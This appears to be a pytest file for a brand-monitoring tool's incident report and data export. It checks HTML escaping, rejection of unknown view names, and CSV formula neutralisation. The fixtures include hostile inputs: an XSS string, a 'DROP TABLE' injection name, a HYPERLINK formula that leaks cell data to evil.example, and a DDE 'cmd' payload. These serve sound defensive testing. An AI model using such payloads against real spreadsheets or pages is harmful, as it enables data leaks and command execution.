"""`yujing report` and `yujing export` on a hand-built incident, on SQLite and PostgreSQL."""

from __future__ import annotations

import datetime as dt
import io
import json
import shutil
import subprocess

import pandas as pd
import pytest

from warehouse.schema import (
    incidents,
    mentions,
    notifications,
    reposts,
    scores,
    spread_estimates,
)
from yujing.export import export_main
from yujing.report import gather, render_report, report_main

T0 = dt.datetime(2026, 5, 1, 2, 0, tzinfo=dt.UTC)
HOSTILE = '沐沐奶粉有异物！<script>alert("x")</script> & <img src=x onerror=1>'


@pytest.fixture
def incident(warehouse):
    with warehouse.begin() as conn:
        conn.execute(
            mentions.insert(),
            [
                {
                    "platform": "weibo",
                    "post_id": str(i),
                    "brand": "mumu",
                    "author_name": "宝妈<b>",
                    "author_followers": 5200,
                    "author_verified": False,
                    "text": HOSTILE if i == 1 else f"沐沐奶粉 帖子 {i}",
                    "created_at": T0 + dt.timedelta(minutes=10 * i),
                    "url": "https://weibo.com/1/1",
                    "raw": "{}",
                    "ingested_at": T0,
                    "is_competitor": False,
                }
                for i in range(1, 6)
            ],
        )
        conn.execute(
            scores.insert(),
            [
                {
                    "platform": "weibo",
                    "post_id": str(i),
                    "model_version": "m",
                    "sentiment": 0.1,
                    "negative": i < 4,
                    "complaint": i < 3,
                    "categories": '["safety"]',
                    "signals": '["regulator_legal"]',
                    "scored_at": T0,
                }
                for i in range(1, 6)
            ],
        )
        conn.execute(
            reposts.insert(),
            [
                {
                    "platform": "weibo",
                    "root_post_id": "1",
                    "repost_id": str(100 + k),
                    "parent_id": "1",
                    "created_at": T0 + dt.timedelta(minutes=12 + k),
                    "user_id": f"u{k}",
                    "followers": 1000 * k,
                    "verified": k % 7 == 0,
                }
                for k in range(60)
            ],
        )
        conn.execute(
            spread_estimates.insert(),
            [
                {
                    "platform": "weibo",
                    "post_id": "1",
                    "estimated_at": T0 + dt.timedelta(minutes=m),
                    "model_version": "s",
                    "observed": obs,
                    "predicted": obs * 20.0,
                    "low": obs * 10.0,
                    "high": obs * 40.0,
                    "p_viral": p,
                    "velocity_per_10min": 30.0,
                }
                for m, obs, p in [(20, 8, 0.2), (40, 28, 0.5), (60, 48, 0.8)]
            ],
        )
        conn.execute(
            incidents.insert().values(
                incident_id="mumu-abc",
                brand="mumu",
                platform="weibo",
                root_post_id="1",
                category="safety",
                level="critical",
                status="open",
                opened_at=T0 + dt.timedelta(minutes=20),
                updated_at=T0 + dt.timedelta(minutes=60),
                level_changed_at=T0 + dt.timedelta(minutes=40),
                last_growth_at=T0 + dt.timedelta(minutes=60),
                crossed_viral_at=T0 + dt.timedelta(hours=3),
                peak_p_viral=0.8,
                evidence=json.dumps({"categories": ["safety"], "signals": ["regulator_legal"]}),
            )
        )
        conn.execute(
            notifications.insert(),
            [
                {
                    "dedupe_key": f"mumu-abc:{ev}:{lv}:pr-slack",
                    "incident_id": "mumu-abc",
                    "event": ev,
                    "level": lv,
                    "receiver": "pr-slack",
                    "channel": "slack",
                    "status": "sent",
                    "attempts": 1,
                    "created_at": T0,
                    "sent_at": T0 + dt.timedelta(minutes=m),
                    "payload": "{}",
                }
                for ev, lv, m in [("open", "warning", 21), ("escalate", "critical", 41)]
            ],
        )
    return warehouse


def test_report_has_every_section_escaped_with_text_charts(incident, tmp_path):
    from yujing.config import load_config

    data = gather(incident, "mumu-abc")
    page = render_report(data, load_config())
    for heading in ("事件溯源", "传播趋势", "关键传播节点", "网民情绪", "类别与信号", "预警记录"):
        assert heading in page
    assert "<script>" not in page and "&lt;script&gt;" in page and "<img" not in page
    assert page.count("<svg") == 2 and "转发 reposts" in page  # chart text kept as text
    assert "159 分钟" in page  # first alert 21 min, viral line at 180 min
    out = tmp_path / "r.html"
    assert report_main(["mumu-abc", "--out", str(out)], engine=incident) == 0
    assert out.read_text(encoding="utf-8").startswith("<!doctype html>")
    assert report_main(["nope"], engine=incident) == 1


@pytest.mark.skipif(shutil.which("chromium") is None, reason="Debian's chromium not installed")
def test_report_renders_in_headless_chromium(incident, tmp_path):
    out = tmp_path / "r.html"
    report_main(["mumu-abc", "--out", str(out)], engine=incident)
    run = subprocess.run(
        ["chromium", "--headless", "--no-sandbox", "--disable-gpu", "--dump-dom", out.as_uri()],
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert "关键传播节点" in run.stdout and "<svg" in run.stdout
    shot = tmp_path / "r.png"
    subprocess.run(
        [
            "chromium",
            "--headless",
            "--no-sandbox",
            "--disable-gpu",
            f"--screenshot={shot}",
            "--window-size=1000,2400",
            out.as_uri(),
        ],
        capture_output=True,
        timeout=120,
    )
    assert shot.exists() and shot.stat().st_size > 10_000


def test_export_views_to_csv_and_parquet(incident, tmp_path):
    buffer = io.StringIO()
    assert export_main(["v_mentions_daily"], engine=incident, stdout=buffer) == 0
    frame = pd.read_csv(io.StringIO(buffer.getvalue()))
    assert frame["mentions"].sum() == 5
    parquet = tmp_path / "timeline.parquet"
    assert (
        export_main(
            ["v_incident_timeline", "--format", "parquet", "--out", str(parquet)], engine=incident
        )
        == 0
    )
    timeline = pd.read_parquet(parquet)
    assert set(timeline["event"]) >= {"opened", "notified:open", "crossed_viral"}
    assert export_main(["mentions; DROP TABLE mentions"], engine=incident) == 2
    assert export_main(["v_mentions_daily", "--format", "parquet"], engine=incident) == 2


def test_unwritable_output_and_unmigrated_warehouse_are_one_line_errors(incident, tmp_path, capsys):
    """A folder or a missing folder as --out, or a warehouse never upgraded, is a user
    error named in one line before any query, not a traceback."""
    from warehouse.db import make_engine

    for out, why in ((tmp_path, "is a folder"), (tmp_path / "no" / "x.html", "no such folder")):
        for run in (
            lambda out=out: report_main(["mumu-abc", "--out", str(out)], engine=incident),
            lambda out=out: export_main(["v_mentions_daily", "--out", str(out)], engine=incident),
            lambda out=out: export_main(
                ["v_mentions_daily", "--format", "parquet", "--out", str(out)], engine=incident
            ),
        ):
            assert run() == 2
            err = capsys.readouterr().err
            assert f"cannot write {out}: " in err and why in err and err.count("\n") == 1
    assert not (tmp_path / "no").exists()

    fresh = make_engine(f"sqlite:///{tmp_path / 'never-upgraded.db'}")
    try:
        assert export_main(["v_mentions_daily"], engine=fresh, stdout=io.StringIO()) == 2
        assert "run `yujing db upgrade`" in capsys.readouterr().err
        assert report_main(["mumu-abc", "--out", str(tmp_path / "r.html")], engine=fresh) == 2
        assert "run `yujing db upgrade`" in capsys.readouterr().err
    finally:
        fresh.dispose()


def test_export_help_offers_no_sql(capsys):
    with pytest.raises(SystemExit):
        export_main(["--help"])
    assert "--where" not in capsys.readouterr().out


FORMULAS = {  # post id: (author, text); every one a cell a spreadsheet would evaluate
    "6": ("宝妈", '=HYPERLINK("http://evil.example/?leak="&A1,"沐沐奶粉官方退款通道")'),
    "7": ("@SUM(1+1)*cmd|' /C calc'!A0", "沐沐奶粉有异物"),
    "8": ("-2+3", "+86 138 0000 0000 沐沐奶粉客服不理人"),
    "9": ("\t=1+1", "\r=1+1 沐沐奶粉"),
}


def _tracked_formula_posts(engine):
    """Tracked complaints whose author names and texts start like formulas, one with a
    negative sentiment number (a number, never a formula to neutralise)."""
    from warehouse.schema import tracked_posts

    with engine.begin() as conn:
        for post_id, (author, body) in FORMULAS.items():
            conn.execute(
                mentions.insert().values(
                    platform="weibo", post_id=post_id, brand="mumu", author_name=author,
                    author_followers=10, author_verified=False, text=body, created_at=T0,
                    url=f"https://weibo.com/1/{post_id}", raw="{}", ingested_at=T0,
                    is_competitor=False,
                )
            )  # fmt: skip
            conn.execute(
                scores.insert().values(
                    platform="weibo", post_id=post_id, model_version="m", sentiment=-0.25,
                    negative=True, complaint=True, categories="[]", signals="[]", scored_at=T0,
                )
            )  # fmt: skip
            conn.execute(
                tracked_posts.insert().values(
                    platform="weibo", post_id=post_id, brand="mumu", state="hot", created_at=T0,
                    tracked_since=T0, next_check_at=T0,
                )
            )  # fmt: skip


def test_csv_export_neutralises_formula_cells_once_with_a_bom(incident, tmp_path, monkeypatch):
    """Text cells that start with = + - @ tab or CR get a leading ' (OWASP), numbers stay
    numbers, and the file starts with one UTF-8 BOM however many chunks it streams in."""
    import csv

    import yujing.export

    _tracked_formula_posts(incident)
    monkeypatch.setattr(yujing.export, "CHUNK", 2)  # four rows: two chunks
    out = tmp_path / "top.csv"
    assert export_main(["v_top_complaints", "--out", str(out)], engine=incident) == 0
    raw = out.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf") and raw.count(b"\xef\xbb\xbf") == 1
    with open(out, encoding="utf-8-sig", newline="") as f:
        rows = {r["post_id"]: r for r in csv.DictReader(f)}
    assert rows.keys() == FORMULAS.keys()
    for post_id, (author, body) in FORMULAS.items():
        safe = lambda s: "'" + s if s[0] in "=+-@\t\r" else s  # noqa: E731
        assert (rows[post_id]["author_name"], rows[post_id]["excerpt"]) == (
            safe(author),
            safe(body),
        )
        assert float(rows[post_id]["sentiment"]) == -0.25  # a negative number is untouched
    assert rows["7"]["excerpt"] == "沐沐奶粉有异物" and rows["6"]["author_name"] == "宝妈"
    cells = [c for r in rows.values() for c in r.values()]
    risky = [c for c in cells if c[:1] and c[0] in "=+-@\t\r" and c != "-0.25"]
    assert not risky
    # stdout (a pipe) gets the same cells, without the BOM
    buffer = io.StringIO()
    assert export_main(["v_top_complaints"], engine=incident, stdout=buffer) == 0
    assert not buffer.getvalue().startswith("\ufeff")
    assert "'=HYPERLINK(" in buffer.getvalue() and "'-2+3" in buffer.getvalue()
    # parquet keeps the raw text
    parquet = tmp_path / "top.parquet"
    assert export_main(["v_top_complaints", "--format", "parquet", "--out", str(parquet)],
                       engine=incident) == 0  # fmt: skip
    frame = pd.read_parquet(parquet).set_index("post_id")
    assert frame.loc["8", "author_name"] == "-2+3" and frame.loc["6", "excerpt"].startswith("=")
